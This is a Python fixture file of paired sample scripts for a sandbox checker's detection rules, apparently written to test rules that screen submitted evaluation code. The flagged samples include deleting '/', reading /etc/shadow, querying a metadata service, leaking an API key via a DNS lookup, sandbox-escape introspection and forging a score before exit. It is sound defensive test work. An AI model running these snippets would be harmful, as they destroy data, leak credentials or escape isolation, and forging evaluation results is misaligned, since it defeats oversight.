"""For each rule of the first two stages one script that it notices and one, close by, that it does not."""

from __future__ import annotations

import base64

ENCODED = base64.b64encode(b"import os\nos.system('true')").decode()
HARMLESS = base64.b64encode(b"The quick brown fox jumps over the lazy dog, twice.").decode()

QUICK: dict[str, tuple[bytes, bytes]] = {
    "too_large": (b"#" * (256 * 1024 + 1), b"x = 1 #" + b"#" * 1000),
    "nul_byte": (b"x = 1\0", b"x = '\\0'"),
    "not_utf8": (b"x = '\xff'", "x = 'ÿ'".encode()),
    "encoding_cookie": (b"# -*- coding: latin-1 -*-\nx = 1", b"# -*- coding: utf-8 -*-\nx = 1"),
    "lone_carriage_return": (b"x = 1 #\rimport os", b"x = 1\r\ny = 2\r\n"),
    "form_feed": (b"x = 1\n\x0cy = 2", b"x = '\\f'"),
    "control_character": (b"x = '\x1b[8m'", b"x = '\\x1b[8m'"),
    "bidi_character": ("x = 'a\u202eb'".encode(), "x = 'שלום'".encode()),
    "invisible_character": ("x = 'a\u200bb'".encode(), "x = '👩\u200d👧 ❤\ufe0f'".encode()),
    "lookalike_name": ("\U0001d431 = 1".encode(), "x, y = '\uff58', 'größe'\ngröße = x".encode()),
    "syntax_error": (b"def f(:\n", b"x = '\\d'"),
    "empty_script": (b"# nothing\n", b"pass\n"),
    "too_deep": (b"x = " + b"-" * 5000 + b"1", b"x = " + b"-" * 50 + b"1"),
    "too_many_nodes": (b"x=1\n" * 60_000, b"x=1\n" * 2_000),
    "huge_constant": (b"x = '" + b"a" * 140_000 + b"'", b"x = '" + b"a" * 1_000 + b"'"),
    "missing_module": (b"import numpy", b"try:\n    import numpy\nexcept ImportError:\n    numpy = None"),
    "relative_import": (b"from . import x", b"from os import path"),
    "native_code": (b"import ctypes", b"x = 'import ctypes'"),
    "code_loading": (b"from runpy import run_path", b"import importlib.util"),
    "debugger": (b"import pdb", b"import traceback"),
    "harness_access": (b"import __main__", b"x = __name__ == '__main__'"),
    "dynamic_code": (b"exec('1')", b"def f(exec):\n    return exec('1')"),
    "builtins_access": (b"__builtins__.print(1)", b"print(1)"),
    "loader_access": (b"x = __spec__", b"x = __doc__"),
    "introspection": (b"x = f.__globals__", b"x = f.__code__.co_varnames"),
    "frame_access": (b"x = f.gi_frame", b"x = error.__traceback__"),
    "frame_lookup": (b"import inspect\ninspect.currentframe()", b"import inspect\ninspect.signature(len)"),
    "starts_process": (b"import os\nos.system('true')", b"import platform\nplatform.system()"),
    "star_import": (b"from subprocess import *", b"from math import *"),
    "starts_interpreter": (
        b"import subprocess, sys\nsubprocess.run([sys.executable, '-V'])",
        b"import sys\nprint([sys.executable, '-V'])",
    ),
    "signals_process": (b"import os\nos.kill(1, 9)", b"import os\nos.kill = None"),
    "changes_privileges": (b"import os\nos.setuid(0)", b"import os\nos.getuid()"),
    "makes_links": (b"import os\nos.symlink('a', 'b')", b"import os\nos.readlink('a')"),
    "early_exit": (b"import os\nos._exit(0)", b"import sys\nsys.exit(0)"),
    "harness_patch": (b"import json\njson.dumps = print", b"import builtins\nbuiltins.exit = None"),
    "tracing": (b"import sys\nsys.settrace(print)", b"import sys\nsys.gettrace()"),
    "opens_browser": (b"import webbrowser\nwebbrowser.open('x')", b"open('x')"),
}
"""`too_costly` and `parser_died` are about memory and processes: test_parser_pool.py."""

STATIC: dict[str, tuple[bytes, bytes]] = {
    "invalid_program": (b"return 1", b"def f():\n    return 1"),
    "hidden_dynamic_code": (
        b"import builtins\nx = getattr(builtins, 'ex' + 'ec')",
        b"import builtins\nx = getattr(builtins, 'print')",
    ),
    "hidden_process": (b"import os\nm = os\nm.system('true')", b"import platform\nm = platform\nm.system()"),
    "hidden_introspection": (
        b"import operator\noperator.attrgetter('f.__globals__')",
        b"import operator\noperator.attrgetter('f.name')",
    ),
    "hidden_import": (
        b"import importlib\nimportlib.import_module('ctypes')",
        b"import importlib\nimportlib.import_module('json')",
    ),
    "computed_name": (b"x = 'ev' + 'al'", b"x = ['train', 'eval'][1] + '_split'"),
    "computed_attribute": (
        b"import os\ndef f(name):\n    return getattr(os, name)",
        b"import math\ndef f(name):\n    return getattr(math, name)",
    ),
    "computed_import": (b"import importlib\ndef f(name):\n    importlib.import_module(name)", b"import json"),
    "encoded_code": (f"X = '{ENCODED}'".encode(), f"X = '{HARMLESS}'".encode()),
    "format_leak": (b"'{0.__init__.__globals__}'.format(x)", b"'{0.__class__.__name__} {1}'.format(x, y)"),
    "type_walk": (b"x = ().__class__.__base__", b"x = type(self).__mro__"),
    "constructs_code": (b"import types\ntypes.FunctionType(f, {})", b"import types\nisinstance(f, types.FunctionType)"),
    "text_as_code": (b"import timeit\ntimeit.timeit('f(1) + f(2)')", b"import timeit\ntimeit.timeit(lambda: f(1))"),
    "loads_module_file": (
        b"import importlib.util\nimportlib.util.spec_from_file_location('a', 'a.py')",
        b"import importlib.util\nimportlib.util.find_spec('json')",
    ),
    "replaces_module": (b"import sys\nsys.modules['plotting'] = None", b"import sys\nx = 'json' in sys.modules"),
    "forges_harness": (b"import sys\nsys.modules['json'] = x", b"import sys\nx = sys.modules['json']"),
    "opens_model": (
        b"def evaluate_model(model):\n    return model.generate.__self__",
        b"def evaluate_model(model):\n    return model.__class__.__name__",
    ),
    "looks_into_model": (
        b"def evaluate_model(model):\n    return model._channel",
        b"def evaluate_model(model):\n    return model.name",
    ),
    "unpickles_literal": (b"import pickle\npickle.loads(b'I1\\n.')", b"import pickle\npickle.loads(pickle.dumps(x))"),
    "unpickles": (b"import pickle\npickle.load(file)", b"import json\njson.load(file)"),
    "sensitive_file": (b"open('/etc/' + 'shadow')", b"print('open /etc/shadow')"),
    "system_file": (b"open('/etc/passwd')", b"open('passwd')"),
    "metadata_service": (
        b"import urllib.request\nurllib.request.urlopen('http://169.254.169.254/x')",
        b"print('http://169.254.169.254/x')",
    ),
    "network_use": (b"import socket\nsocket.create_connection(('a', 1))", b"import socket\nsocket.gethostname()"),
    "sends_environment": (
        b"import os, socket\nx = dict(os.environ)",
        b"import os, socket\nx = os.environ['HOME']",
    ),
    "reads_credentials": (b"import os\nos.getenv('OPENAI_API_KEY')", b"import os\nos.getenv('LIMIT')"),
    "foreign_descriptor": (b"import os\nos.write(5, b'x')", b"import os\nos.write(1, b'x')"),
    "persistence": (b"open('/etc/cron.d/x', 'w')", b"open('cron.txt', 'w')"),
    "hooks_imports": (b"import sys\nsys.meta_path.insert(0, x)", b"import sys\nsys.path.insert(0, 'x')"),
    "loads_foreign_code": (
        b"import importlib.util\nimportlib.util.spec_from_file_location('a', '/tmp/a.py')",
        b"import importlib.util\nimportlib.util.spec_from_file_location('a', 'a.py')",
    ),
    "links_system_file": (b"import os\nos.symlink('/etc/passwd', 'a')", b"import os\nos.symlink('a', 'b')"),
    "patches_library": (b"import time\ntime.time = lambda: 0.0", b"import time\nstart = time.time()"),
    "leaks_credentials": (
        b"import os, socket\nsocket.gethostbyname(os.getenv('API_KEY') + '.example.com')",
        b"import os, socket\nx = os.getenv('API_KEY'), socket.gethostname()",
    ),
    "forges_result": (
        b"import os\nprint('{\"score\": 1}')\nos._exit(0)",
        b"import sys\nprint('{\"score\": 1}')\nsys.exit(0)",
    ),
    "destroys_files": (b"import shutil\nshutil.rmtree('/')", b"import shutil\nshutil.rmtree('out')"),
    "capabilities": (b"open('x')", b"print('x')"),
    "uses_network_modules": (b"import socket", b"import json"),
    "uses_process_modules": (b"import subprocess", b"import json"),
}
"""`not_analysed` is about bounds: test_static_analysis.py."""
